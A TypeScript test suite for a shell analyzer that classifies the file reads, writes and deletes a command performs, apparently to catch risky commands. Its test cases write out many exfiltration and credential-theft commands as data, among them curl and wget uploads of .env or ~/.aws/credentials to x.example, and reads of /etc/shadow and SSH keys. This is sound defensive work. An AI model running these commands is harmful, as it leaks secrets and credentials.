import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type FileAccess, fileAccesses, type FileOp } from '../../../lib/analyzers/shell/file-access/index.js';
import { globSamples } from '../../../lib/analyzers/shell/glob-samples.js';
import { analyzeShell } from '../../../lib/analyzers/shell/index.js';
import { findResults, regexGlobs } from '../../../lib/analyzers/shell/literal.js';
import { readOption } from '../../../lib/analyzers/shell/wrappers.js';

const ctx = { cwd: '/home/dev/project', home: '/home/dev', projectDir: '/home/dev/project' };
const accesses = (cmd: string): FileAccess[] => fileAccesses(analyzeShell(cmd, ctx));
const pairs = (cmd: string): Array<[FileOp, string]> => accesses(cmd).map((a) => [a.op, a.path]);

type Expected = Array<[FileOp, string]>;

describe('fileAccesses: reads', () => {
  const cases: Array<[string, Expected]> = [
    ['cat .env', [['read', '.env']]],
    ['cat -n -- -file', [['read', '-file']]],
    ['tac f', [['read', 'f']]],
    ['less -R +F log.txt', [['read', 'log.txt']]],
    ['more +10 f', [['read', 'f']]],
    ['head -n 5 .env', [['read', '.env']]],
    ['tail -f -n 100 app.log', [['read', 'app.log']]],
    ['nl -b a f', [['read', 'f']]],
    ['od -An -t x1 f', [['read', 'f']]],
    ['xxd .env', [['read', '.env']]],
    ['xxd -r dump.hex out.bin', [['read', 'dump.hex'], ['write', 'out.bin']]],
    ['hexdump -C -n 64 f', [['read', 'f']]],
    ['strings -n 8 bin', [['read', 'bin']]],
    ['base64 -w0 id_rsa', [['read', 'id_rsa']]],
    ['base32 ~/.ssh/id_ed25519', [['read', '~/.ssh/id_ed25519']]],
    ['grep KEY .env', [['read', '.env']]],
    ['grep -e KEY -e X .env b', [['read', '.env'], ['read', 'b']]],
    ['grep --regexp=KEY .env', [['read', '.env']]],
    ['grep -f patterns.txt .env', [['read', 'patterns.txt'], ['read', '.env']]],
    ['grep -m 5 -A 3 --include=*.ts KEY src .env', [['read', 'src'], ['read', '.env']]],
    ['grep -rn --exclude-dir node_modules TOKEN .', [['read', '.']]],
    ['grep -C3 KEY .env', [['read', '.env']]],
    ['egrep "a|b" f', [['read', 'f']]],
    ['fgrep -i key .env', [['read', '.env']]],
    ['rg -g "*.ts" -t js KEY .env', [['read', '.env']]],
    ['rg -e KEY .env', [['read', '.env']]],
    ['rg --files src', []],
    ['ag -C 2 KEY .env', [['read', '.env']]],
    ["awk '{print}' .env", [['read', '.env']]],
    ['awk -F: -v x=1 "{print \\$1}" FS=: /etc/passwd', [['read', '/etc/passwd']]],
    ['awk -f prog.awk data.txt', [['read', 'data.txt']]],
    ['gawk -i inplace "{print}" f.txt', [['write', 'f.txt']]],
    ['sed -n 1p .env', [['read', '.env']]],
    ['sed -e s/a/b/ -e s/c/d/ in.txt', [['read', 'in.txt']]],
    ['sed -f script.sed in.txt', [['read', 'in.txt']]],
    ['sed -E "s/a/b/" -- .env', [['read', '.env']]],
    ['sort -u .env', [['read', '.env']]],
    ['sort -o out.txt -k 2 in.txt', [['write', 'out.txt'], ['read', 'in.txt']]],
    ['uniq -c in', [['read', 'in']]],
    ['uniq in out', [['read', 'in'], ['write', 'out']]],
    ['cut -d: -f1 /etc/passwd', [['read', '/etc/passwd']]],
    ['wc -l a b', [['read', 'a'], ['read', 'b']]],
    ['diff -u a b', [['read', 'a'], ['read', 'b']]],
    ['cmp a b 10 20', [['read', 'a'], ['read', 'b']]],
    ['md5sum .env', [['read', '.env']]],
    ['sha256sum -c sums.txt', [['read', 'sums.txt']]],
    ['shasum -a 256 id_rsa', [['read', 'id_rsa']]],
    ['jq .foo config.json', [['read', 'config.json']]],
    ['jq -r --arg x y ".a" f.json', [['read', 'f.json']]],
    ['jq -n --rawfile k .env "$k"', [['read', '.env']]],
    ['jq -n --args "$ARGS" a b', []],
    ['yq ".a" c.yaml', [['read', 'c.yaml']]],
    ['yq eval ".a" c.yaml', [['read', 'c.yaml']]],
    ['source .env', [['read', '.env']]],
    ['. ./env.sh arg', [['read', 'env.sh']]],
    ['openssl enc -d -aes-256-cbc -in .env.enc -out .env -pass file:key.txt', [['read', '.env.enc'], ['write', '.env'], ['read', 'key.txt']]],
    ['openssl rsa -in ~/.ssh/id_rsa -pubout', [['read', '~/.ssh/id_rsa']]],
    ['openssl dgst -sha256 .env', [['read', '.env']]],
    ['openssl rand -hex 32', []],
    ['gpg --decrypt secrets.gpg', [['read', 'secrets.gpg']]],
    ['gpg -d secrets.gpg', [['read', 'secrets.gpg']]],
    ['gpg secrets.gpg', [['read', 'secrets.gpg']]],
    ['gpg -o out.txt -r me --encrypt notes.txt', [['write', 'out.txt'], ['read', 'notes.txt']]],
    ['gpg --recv-keys ABCD1234', []],
    ['xclip -selection clipboard .env', [['read', '.env']]],
    ['xclip -o -selection clipboard', []],
    ['pbcopy < .env', [['read', '.env']]],
    ['perl -ne "print" .env', [['read', '.env']]],
    ['perl -e "print 1" arg', []],
    ['perl script.pl data', []],
  ];
  it.each(cases)('%s', (cmd, expected) => {
    expect(pairs(cmd)).toEqual(expected);
  });
});

describe('fileAccesses: copies, archives and transfers', () => {
  const cases: Array<[string, Expected]> = [
    ['cp .env /tmp/x', [['read', '.env'], ['write', '/tmp/x']]],
    ['cp -r a b dir/', [['read', 'a'], ['read', 'b'], ['write', 'dir']]],
    ['cp -t /tmp a b', [['write', '/tmp'], ['read', 'a'], ['read', 'b']]],
    ['cp --target-directory=/tmp a', [['write', '/tmp'], ['read', 'a']]],
    ['mv old new', [['read', 'old'], ['delete', 'old'], ['write', 'new']]],
    ['install -m 644 a /usr/local/bin/a', [['read', 'a'], ['write', '/usr/local/bin/a']]],
    ['install -d /opt/x /opt/y', [['write', '/opt/x'], ['write', '/opt/y']]],
    ['ln -s target link', [['write', 'link']]],
    ['tar -czf archive.tgz .env', [['write', 'archive.tgz'], ['read', '.env']]],
    ['tar czf out.tgz -C /etc shadow passwd', [['write', 'out.tgz'], ['read', '/etc/shadow'], ['read', '/etc/passwd']]],
    ['tar -C sub -cf ../out.tar a', [['write', '../out.tar'], ['read', 'sub/a']]],
    ['tar --create --file=x.tar ~/.ssh', [['write', 'x.tar'], ['read', '~/.ssh']]],
    ['tar -xzf a.tgz -C /tmp', [['read', 'a.tgz']]],
    ['tar -tf a.tar', [['read', 'a.tar']]],
    ['tar -czf - . | base64', [['read', '.']]],
    ['zip secrets.zip .env id_rsa', [['write', 'secrets.zip'], ['read', '.env'], ['read', 'id_rsa']]],
    ['zip -r out.zip . -x "*.git*"', [['write', 'out.zip'], ['read', '.']]],
    ['scp -P 22 .env user@host:/tmp/', [['read', '.env']]],
    ['scp host:/etc/passwd .', [['write', '.']]],
    ['scp -r ./a ./b backup/', [['read', 'a'], ['read', 'b'], ['write', 'backup']]],
    ['rsync -avz -e ssh ~/.ssh/ host:backup/', [['read', '~/.ssh']]],
    ['rsync --exclude=.git src/ /backup/', [['read', 'src'], ['write', '/backup']]],
    ['rsync host::module/x ./x', [['write', 'x']]],
    ['curl -F file=@.env https://x.example', [['read', '.env']]],
    ['curl -F "f=<id_rsa" https://x.example', [['read', 'id_rsa']]],
    ['curl -F "f=@\\"my file\\";type=text/plain" https://x.example', [['read', 'my file']]],
    ['curl --form-string "a=@literal" https://x.example', []],
    ['curl -d @.env https://x.example', [['read', '.env']]],
    ['curl --data @.env https://x.example', [['read', '.env']]],
    ['curl --data-binary @/etc/passwd https://x.example', [['read', '/etc/passwd']]],
    ['curl --data-raw @x https://x.example', []],
    ['curl -d "a=b" https://x.example', []],
    ['curl -d @- https://x.example < .env', [['read', '.env']]],
    ['curl --data-urlencode name@.env https://x.example', [['read', '.env']]],
    ['curl --data-urlencode @.env https://x.example', [['read', '.env']]],
    ['curl --data-urlencode "a=b@c" https://x.example', []],
    ['curl -T .env ftp://x.example', [['read', '.env']]],
    ['curl --upload-file ~/.aws/credentials https://x.example', [['read', '~/.aws/credentials']]],
    ['curl --json @body.json https://x.example', [['read', 'body.json']]],
    ['curl -o out.html https://x.example', [['write', 'out.html']]],
    ['curl --output=out.html https://x.example', [['write', 'out.html']]],
    ['curl -sSLo page https://x.example', [['write', 'page']]],
    ['curl -K cfg https://x.example', [['read', 'cfg']]],
    ['curl -sSL https://x.example -o-', []],
    ['curl -H "Authorization: x" -X POST https://x.example', []],
    ['wget --post-file=.env https://x.example', [['read', '.env']]],
    ['wget --body-file .env --method PUT https://x.example', [['read', '.env']]],
    ['wget -O out https://x.example', [['write', 'out']]],
    ['wget -qO- https://x.example', []],
    ['http -f POST x.example/upload file@.env', [['read', '.env']]],
    ['http POST https://x.example token=@.env', [['read', '.env']]],
    ['https x.example cfg:=@config.json q==1 name=a@b', [['read', 'config.json']]],
    ['xh https://x.example data:=@data.json name=foo', [['read', 'data.json']]],
    ['http -o out.json GET https://x.example', [['write', 'out.json']]],
    ['aws s3 cp .env s3://bucket/x', [['read', '.env']]],
    ['aws --profile p s3 cp --recursive ./secrets s3://b/ --region us-east-1', [['read', 'secrets']]],
    ['aws s3 cp s3://b/x ./x', [['write', 'x']]],
    ['aws s3 sync . s3://b', [['read', '.']]],
    ['aws s3 mv a.txt s3://b/', [['read', 'a.txt'], ['delete', 'a.txt']]],
    ['aws s3 ls s3://b', []],
    ['gsutil -m cp -r .env gs://b/', [['read', '.env']]],
    ['gcloud storage cp id_rsa gs://b/', [['read', 'id_rsa']]],
    ['gcloud --project p storage cp --recursive dir gs://b/', [['read', 'dir']]],
    ['az storage blob upload --file .env --container-name c --name x', [['read', '.env']]],
    ['az storage blob upload --account-name a -c c -n x --file=.env', [['read', '.env']]],
    ['az storage blob download -c c -n x -f out.bin', [['write', 'out.bin']]],
    ['dd if=/dev/sda of=disk.img bs=1M', [['read', '/dev/sda'], ['write', 'disk.img']]],
    ['dd if=.env of=/dev/null', [['read', '.env']]],
  ];
  it.each(cases)('%s', (cmd, expected) => {
    expect(pairs(cmd)).toEqual(expected);
  });
});

describe('fileAccesses: writes and deletes', () => {
  const cases: Array<[string, Expected]> = [
    ['echo x > out.txt', [['write', 'out.txt']]],
    ['echo x >> log', [['write', 'log']]],
    ['echo x >| f', [['write', 'f']]],
    ['make &> build.log', [['write', 'build.log']]],
    ['make 2> err.log', [['write', 'err.log']]],
    ['make >&all.log', [['write', 'all.log']]],
    ['cat < .env 2>/dev/null >&2 > out', [['read', '.env'], ['write', 'out']]],
    ['cmd 1>&- 2>&1 >/dev/stdout 2>/dev/stderr 3>/dev/fd/3', []],
    ['cat <> f', [['read', 'f']]],
    ['exec 3< .env', [['read', '.env']]],
    ['> empty.txt', [['write', 'empty.txt']]],
    ['echo x > ~/.bashrc', [['write', '~/.bashrc']]],
    ['echo hi | tee -a log1 log2', [['write', 'log1'], ['write', 'log2']]],
    ['echo key | sudo tee /etc/hosts > /dev/null', [['write', '/etc/hosts']]],
    ['touch -d now a b', [['write', 'a'], ['write', 'b']]],
    ['truncate -s 0 log', [['write', 'log']]],
    ['mkfifo -m 600 p1 p2', [['write', 'p1'], ['write', 'p2']]],
    ['mkfifo --mode=600 -Z ~/.bashrc', [['write', '~/.bashrc']]],
    ['mknod -m 600 ~/.bashrc p', [['write', '~/.bashrc']]],
    ['mknod disk b 8 0', [['write', 'disk']]],
    ['sed -i "s/a/b/" config.yml', [['write', 'config.yml']]],
    ["sed -i '' 's/a/b/' f.txt", [['write', 'f.txt']]],
    ['sed -i.bak -e s/a/b/ f1 f2', [['write', 'f1'], ['write', 'f2']]],
    ['sed --in-place=.orig "s/a/b/" f', [['write', 'f']]],
    ["perl -pi -e 's/a/b/' x.txt", [['write', 'x.txt']]],
    ["perl -i.bak -pe 's/a/b/' x.txt", [['write', 'x.txt']]],
    ['yq -i ".a=1" c.yaml', [['write', 'c.yaml']]],
    ['chmod 600 ~/.ssh/id_rsa', [['write', '~/.ssh/id_rsa']]],
    ['chmod -R u+x bin', [['write', 'bin']]],
    ['chmod -x script.sh', [['write', 'script.sh']]],
    ['chmod --reference=ref f', [['write', 'f']]],
    ['chown -R dev:dev /srv/app', [['write', '/srv/app']]],
    ['chgrp staff f', [['write', 'f']]],
    ['patch file.c fix.diff', [['write', 'file.c'], ['read', 'fix.diff']]],
    ['patch -p1 < fix.patch', [['read', 'fix.patch']]],
    ['patch -d sub -p1 -i ../x.patch', [['read', 'x.patch']]],
    ['rm -rf build dist', [['delete', 'build'], ['delete', 'dist']]],
    ['rm -- -weird', [['delete', '-weird']]],
    ['unlink x', [['delete', 'x']]],
    ['rmdir -p a/b', [['delete', 'a/b']]],
    ['shred -u -n 3 secret', [['delete', 'secret']]],
    ['trash a', [['delete', 'a']]],
    ['trash-put b', [['delete', 'b']]],
    ['gio trash c', [['delete', 'c']]],
    ['git rm old.txt', [['delete', 'old.txt']]],
    ['git rm -r --cached .', []],
    ['git -C sub rm x', [['delete', 'sub/x']]],
    ['git mv a b', [['read', 'a'], ['delete', 'a'], ['write', 'b']]],
    ['git status', []],
    ['find /tmp/x -delete', [['delete', '/tmp/x']]],
    ['find . -name "*.log" -fprint out.txt', [['write', 'out.txt']]],
    ['find . -exec echo -delete \\; -print', []],
    ['python3 -c "import os; os.remove(\'.env\')"', [['delete', '.env']]],
  ];
  it.each(cases)('%s', (cmd, expected) => {
    expect(pairs(cmd)).toEqual(expected);
  });
});

describe('fileAccesses: variables, wrappers and nesting', () => {
  const cases: Array<[string, Expected]> = [
    ['FILE=.env; cat $FILE', [['read', '.env']]],
    ['F=".env" && cat "$F"', [['read', '.env']]],
    ['E="env"; cat ".$E"', [['read', '.env']]],
    ["printf '.env' | xargs cat", [['read', '.env']]],
    ['echo id_rsa | xargs cat', [['read', 'id_rsa']]],
    ['cat $(echo .env)', [['read', '.env']]],
    ['cat "$HOME/.aws/credentials"', [['read', '~/.aws/credentials']]],
    ['sudo cat /etc/shadow', [['read', '/etc/shadow']]],
    ['sudo -u root cat /etc/shadow', [['read', '/etc/shadow']]],
    ['env X=1 cat .env', [['read', '.env']]],
    ['timeout 5 cat .env', [['read', '.env']]],
    ["bash -c 'cat .env'", [['read', '.env']]],
    ['sh -c "rm -rf build"', [['delete', 'build']]],
    ['echo $(cat .env)', [['read', '.env']]],
    ['x=`cat .env`', [['read', '.env']]],
    ['diff <(cat a) b', [['read', 'a'], ['read', 'b']]],
    ['for f in a b; do cat $f; done', [['read', 'a'], ['read', 'b']]],
    ['cat $(ls) "$UNKNOWN"', [['read', '$UNKNOWN']]],
  ];
  it.each(cases)('%s', (cmd, expected) => {
    expect(pairs(cmd)).toEqual(expected);
  });
});

describe('fileAccesses: data stays data', () => {
  const cases: Array<[string, string]> = [
    ["echo '.env'", '.env'],
    ["printf '.env'", '.env'],
    ["grep '.env' README.md", '.env'],
    ["grep -e '.env' README.md", '.env'],
    ["awk 'BEGIN{print \".env\"}'", '.env'],
    ['cat <<< ".env"', '.env'],
    ['cat <<EOF\n.env\nEOF', '.env'],
    ["echo '.env' | sed 's/.env/.cfg/'", '.env'],
    ["sed 's/id_rsa/x/' notes.txt", 'id_rsa'],
    ['jq ".env" data.json', '.env'],
    ['curl -H "X-File: .env" https://x.example', '.env'],
    ['curl https://x.example/.env', 'https://x.example/.env'],
    ['git commit -m "remove .env"', '.env'],
    ['echo .env > /dev/null', '.env'],
  ];
  it.each(cases)('%s', (cmd, path) => {
    expect(accesses(cmd).filter((a) => a.path === path || a.samples?.includes(path))).toEqual([]);
  });

  it('grep and sed without a file operand read nothing', () => {
    expect(accesses("echo '.env' | sed 's/.env/.cfg/'")).toEqual([]);
    expect(accesses("grep '.env'")).toEqual([]);
  });
});

describe('fileAccesses: remote and container commands are skipped', () => {
  const cases: Array<[string, Expected]> = [
    ['ssh host cat .env', []],
    ['ssh -p 2222 user@host "rm -rf /tmp/x"', []],
    ["ssh host 'bash -c \"cat .env\"'", []],
    ['docker exec c cat .env', []],
    ['docker compose exec web cat /app/.env', []],
    ['podman exec -it c rm -rf /data', []],
    ['kubectl exec -it p -- cat /etc/secret', []],
    // The local side of the connection stays local.
    ['ssh host "cat .env" > local.txt', [['write', 'local.txt']]],
    ['ssh host < script.sh', [['read', 'script.sh']]],
    ['tar cf - . | ssh h tar xf -', [['read', '.']]],
  ];
  it.each(cases)('%s', (cmd, expected) => {
    expect(pairs(cmd)).toEqual(expected);
  });
});

describe('fileAccesses: cwd, via and order', () => {
  it('carries the segment cwd, moved by cd', () => {
    expect(accesses('cd /tmp && cat x')).toEqual([{ path: 'x', op: 'read', via: 'cat', cwd: '/tmp' }]);
    expect(accesses('cat x')[0]?.cwd).toBe('/home/dev/project');
    expect(accesses('cd sub; rm y')[0]?.cwd).toBe('/home/dev/project/sub');
    expect(accesses('(cd /tmp && cat a); cat b').map((a) => a.cwd)).toEqual(['/tmp', '/home/dev/project']);
  });

  it('leaves cwd out when it cannot be known', () => {
    const [a] = accesses('cd "$X" && cat .env');
    expect(a?.path).toBe('.env');
    expect(a && 'cwd' in a).toBe(false);
  });

  it('names what produced each access', () => {
    const via = (cmd: string): string[] => accesses(cmd).map((a) => a.via);
    expect(via('cat a')).toEqual(['cat']);
    expect(via('curl -F f=@a https://x.example')).toEqual(['curl -F']);
    expect(via('echo x | tee a')).toEqual(['tee']);
    expect(via('echo x > a')).toEqual(['redirect >']);
    expect(via('echo x 2>> a')).toEqual(['redirect 2>>']);
    expect(via('wc < a')).toEqual(['redirect <']);
    expect(via('cp a b')).toEqual(['cp (source)', 'cp (destination)']);
    expect(via('mv a b')).toEqual(['mv (source)', 'mv (source)', 'mv (destination)']);
    expect(via('dd if=a of=b')).toEqual(['dd if=', 'dd of=']);
    expect(via('tar -czf x.tgz a')).toEqual(['tar -f', 'tar']);
    expect(via('aws s3 cp a s3://b/')).toEqual(['aws s3 cp (source)']);
    expect(via('git rm a')).toEqual(['git rm']);
    expect(via('find . -delete')).toEqual(['find -delete']);
  });

  it('keeps segment order, then argument order, redirects last', () => {
    expect(pairs('cat a > out; rm b c; cp d e')).toEqual([
      ['read', 'a'],
      ['write', 'out'],
      ['delete', 'b'],
      ['delete', 'c'],
      ['read', 'd'],
      ['write', 'e'],
    ]);
  });

  it('normalises paths like the analyzer does for operands', () => {
    expect(pairs('cat ./a/../.env ~/x/ $HOME/.npmrc')).toEqual([
      ['read', '.env'],
      ['read', '~/x'],
      ['read', '~/.npmrc'],
    ]);
  });

  it('is empty for unparsable or empty input and never throws', () => {
    expect(fileAccesses(analyzeShell('', ctx))).toEqual([]);
    expect(() => fileAccesses(analyzeShell('cat "unterminated', ctx))).not.toThrow();
    expect(() => fileAccesses(analyzeShell('curl -F', ctx))).not.toThrow();
    expect(() => fileAccesses(analyzeShell('jq --rawfile', ctx))).not.toThrow();
  });
});

describe('fileAccesses: globs and find results carry samples', () => {
  const cases: Array<[string, FileOp, string, string[]]> = [
    ["find . -name '*.pem' -print | xargs cat", 'read', '*.pem', ['x.pem']],
    ["find . -name 'id_rsa*' -print0 | xargs -0 cat", 'read', 'id_rsa*', ['id_rsa', 'id_rsax']],
    ["find . -regex '.*\\.pem$' | xargs cat", 'read', '*.pem', ['x.pem']],
    ["find . -iregex '.*id_rsa.*' -exec cat {} \\;", 'read', '*id_rsa*', ['id_rsa', 'xid_rsax']],
    ["find . -regex '.*README\\.md$' | xargs cat", 'read', '*README.md', ['README.md', 'xREADME.md']],
    ["find ~/.ssh -iname 'ID_*' -exec cat {} +", 'read', '~/.ssh/id_*', ['~/.ssh/id_', '~/.ssh/id_x']],
    ["find . -path '*/.aws/*' | xargs cat", 'read', '*/.aws/*', ['x/.aws/x']],
    ["find . -name '*.pyc' -delete", 'delete', '*.pyc', ['x.pyc']],
    ["find . -regex '.*\\.\\(pem\\|key\\)' -delete", 'delete', '*.{pem,key}', ['x.pem', 'x.key']],
    ['scp id_rsa* host:/tmp/', 'read', 'id_rsa*', ['id_rsa', 'id_rsax']],
    ['cat .env*', 'read', '.env*', ['.env', '.envx']],
    ['cat ~/.ssh/id_*', 'read', '~/.ssh/id_*', ['~/.ssh/id_', '~/.ssh/id_x']],
    ['cat **/*.pem', 'read', '**/*.pem', ['x.pem', 'x/x.pem']],
    ['cat .env{,.local}', 'read', '.env{,.local}', ['.env', '.env.local']],
    ['tar czf x.tgz *.key', 'read', '*.key', ['x.key']],
  ];
  it.each(cases)('%s', (cmd, op, path, samples) => {
    const hit = accesses(cmd).find((a) => a.op === op && a.path === path);
    expect(hit, JSON.stringify(accesses(cmd))).toBeDefined();
    expect(hit?.samples).toEqual(samples);
  });

  it('names the file itself when find matches one exact name', () => {
    expect(accesses("find . -iname '.npmrc' | xargs cat")).toEqual([
      { path: '.npmrc', op: 'read', via: 'cat', cwd: '/home/dev/project' },
    ]);
  });

  it('has no samples for plain paths', () => {
    expect(accesses('cat .env')[0]).not.toHaveProperty('samples');
    expect(accesses('echo x > out')[0]).not.toHaveProperty('samples');
  });

  it('README-only regexes sample README names only', () => {
    const samples = accesses("find . -regex '.*README\\.md$' | xargs cat").flatMap((a) => a.samples ?? [a.path]);
    expect(samples.every((s) => s.endsWith('README.md'))).toBe(true);
  });

  it('keeps a stand-in entry when no name test says what is found', () => {
    expect(pairs("find . -mtime -1 | xargs cat")).toEqual([['read', 'entry']]);
    expect(pairs("find . -not -name '*.pem' | xargs cat")).toEqual([['read', 'entry']]);
    expect(pairs('find . -name "$P" | xargs cat')).toEqual([['read', 'entry']]);
    expect(pairs("find . -regex '.*\\w+' | xargs cat")).toEqual([['read', 'entry']]);
  });
});

describe('globSamples', () => {
  const cases: Array<[string, string[] | undefined]> = [
    ['.env', undefined],
    ['a/b.txt', undefined],
    ['.env*', ['.env', '.envx']],
    ['*.pem', ['x.pem']],
    ['id_rsa*', ['id_rsa', 'id_rsax']],
    ['*id_rsa*', ['id_rsa', 'xid_rsax']],
    ['*', ['x']],
    ['.*', ['.x']],
    ['dir/*', ['dir/x']],
    ['?', ['x']],
    ['[abc].key', ['a.key']],
    ['[!a]x', ['xx']],
    ['[^x-z]', ['_']],
    ['{a,b}.env', ['a.env', 'b.env']],
    ['*.{pem,key}', ['x.pem', 'x.key']],
    ['**/*.pem', ['x.pem', 'x/x.pem']],
    ['a\\*b', undefined],
    ['${X}', undefined],
    ['{a}', undefined],
  ];
  it.each(cases)('%s', (glob, expected) => {
    expect(globSamples(glob)).toEqual(expected);
  });

  it('keeps at most four samples', () => {
    expect(globSamples('{a,b,c}*{d,e}*')?.length).toBeLessThanOrEqual(4);
  });
});

describe('find results and regexes', () => {
  it('regexGlobs turns simple find regexes into globs', () => {
    expect(regexGlobs('.*\\.pem$')).toEqual(['*.pem']);
    expect(regexGlobs('.*id_rsa.*')).toEqual(['*id_rsa*']);
    expect(regexGlobs('^\\./secrets/.*')).toEqual(['./secrets/*']);
    expect(regexGlobs('.*\\.\\(pem\\|key\\)')).toEqual(['*.{pem,key}']);
    expect(regexGlobs('.*\\.(pem|key)$')).toEqual(['*.{pem,key}']);
    expect(regexGlobs('.*\\.ya?ml')).toEqual(['*.y{a,}ml']);
    expect(regexGlobs('.*\\.pem|.*\\.key')).toEqual(['*.pem', '*.key']);
    expect(regexGlobs('.*\\w+')).toEqual([]);
    expect(regexGlobs('a{2}')).toEqual([]);
  });

  it('findResults names entries by their name tests', () => {
    expect(findResults(['find', '.', '-name', '*.pem'])).toEqual(['./*.pem']);
    expect(findResults(['find', 'a', 'b/', '-name', 'x'])).toEqual(['a/x', 'b/x']);
    expect(findResults(['find', '.', '-name', '*.pem', '-o', '-name', '*.key'])).toEqual(['./*.pem', './*.key']);
    expect(findResults(['find', '.', '-regex', '\\./src/.*\\.ts'])).toEqual(['./src/*.ts']);
    expect(findResults(['find', '.', '-path', 'src/*'])).toEqual(['./entry']);
    expect(findResults(['find', '.', '-type', 'f', '-mtime', '-1'])).toEqual(['./entry']);
    expect(findResults(['find', '/'])).toEqual(['/']);
  });
});

describe('readOption', () => {
  it('reads getopt-style clusters, values and long options', () => {
    expect(readOption(['-czf', 'x.tgz'], 0, 'f')).toEqual({ names: ['-c', '-z', '-f'], value: 'x.tgz', next: 2 });
    expect(readOption(['-m5'], 0, 'm')).toEqual({ names: ['-m'], value: '5', next: 1 });
    expect(readOption(['--out=x'], 0, '')).toEqual({ names: ['--out'], value: 'x', next: 1 });
    expect(readOption(['--out', 'x'], 0, '', ['--out'])).toEqual({ names: ['--out'], value: 'x', next: 2 });
    expect(readOption(['--flag', 'x'], 0, '')).toEqual({ names: ['--flag'], next: 1 });
    expect(readOption(['-i.bak', 'x'], 0, '', [], 'i')).toEqual({ names: ['-i'], value: '.bak', next: 1 });
    expect(readOption(['-rn'], 0, 'e')).toEqual({ names: ['-r', '-n'], next: 1 });
  });
});

describe('properties', () => {
  const SEED = 0x66616363; // "facc"
  const word = fc.constantFrom(
    'cat', 'grep', 'sed', '-i', '-e', 'awk', 'curl', '-F', 'a=@.env', '-d', '@x', 'tar', '-czf', '-C', 'cp', 'mv', 'rm', 'find', '-name',
    "'*.pem'", '-regex', "'.*(a|b'", '-delete', 'xargs', 'git', 'aws', 's3', 'dd', 'of=x', '|', ';', '>', '<', '2>&1', '--', '-', '""',
    'id_rsa*', '{a,b}', '[!x', '\\', '$X', '$(echo .env)', 'ssh', 'h', 'jq', '--rawfile', 'openssl', '-in', 'http', 'f@g',
  );
  const command = fc.array(word, { maxLength: 14 }).map((ws) => ws.join(' '));

  it('never throws; every access has a non-empty path, a known op and at most four samples', () => {
    fc.assert(
      fc.property(command, (cmd) => {
        for (const a of accesses(cmd)) {
          expect(a.path).not.toBe('');
          expect(['read', 'write', 'delete']).toContain(a.op);
          expect(a.via).not.toBe('');
          expect((a.samples ?? []).length).toBeLessThanOrEqual(4);
        }
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it('is deterministic', () => {
    fc.assert(
      fc.property(command, (cmd) => {
        expect(accesses(cmd)).toEqual(accesses(cmd));
      }),
      { seed: SEED, numRuns: 200 },
    );
  });

  it('globSamples never throws and returns concrete names', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('*', '?', '[', ']', '!', '{', '}', ',', '/', '.', 'a', '\\'), maxLength: 24 }), (g) => {
        const samples = globSamples(g);
        if (samples) {
          expect(samples.length).toBeGreaterThan(0);
          expect(samples.length).toBeLessThanOrEqual(4);
        }
      }),
      { seed: SEED, numRuns: 500 },
    );
  });
});
